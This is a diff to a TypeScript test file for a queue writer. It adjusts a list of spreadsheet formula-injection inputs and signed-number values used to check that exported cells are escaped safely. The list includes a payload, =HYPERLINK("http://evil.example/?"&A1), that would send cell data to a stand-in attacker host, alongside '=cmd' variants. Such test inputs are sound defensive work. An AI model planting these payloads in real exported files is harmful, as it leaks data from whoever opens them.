@@ -9,9 +9,10 @@ import { QueueWriter, readQueues, queuePath } from '../../../engine/run/queue-re
 import type { QueueRow } from '../../../engine/run/load-runner.js';
 import { InputError } from '../../../engine/util/input-error.js';
 
-/** Values a spreadsheet would run as formulas, signed amounts it reads as numbers, and one a person typed with a quote. */
-const HOSTILE = ['=1+2', '+44 20 7946 0000', '-5+3', '-A1', '@SUM(A1:A9)', '\t=cmd', '\r=cmd', '=HYPERLINK("http://evil.example/?"&A1)'];
-const SIGNED_NUMBERS = ['-5', '-1,234.50', '+7'];
+/** Values a spreadsheet would run as formulas or change when saving back, signed amounts it keeps exactly, and typed quotes. */
+const HOSTILE = ['=1+2', '+44 20 7946 0000', '+7', '-5+3', '-A1', '-1,234.50', '-007', '-2.50', '@SUM(A1:A9)', '\t=cmd', '\r=cmd', '=HYPERLINK("http://evil.example/?"&A1)'];
+/** Negative numbers a spreadsheet reads as numbers and saves back exactly as written. */
+const SIGNED_NUMBERS = ['-5', '-1234.5', '-0.25'];
 const VALUES = [...HOSTILE, ...SIGNED_NUMBERS, "'quoted by a person", "''twice", 'plain value', ''];
 
 function queueRow(value: string, i: number): QueueRow {
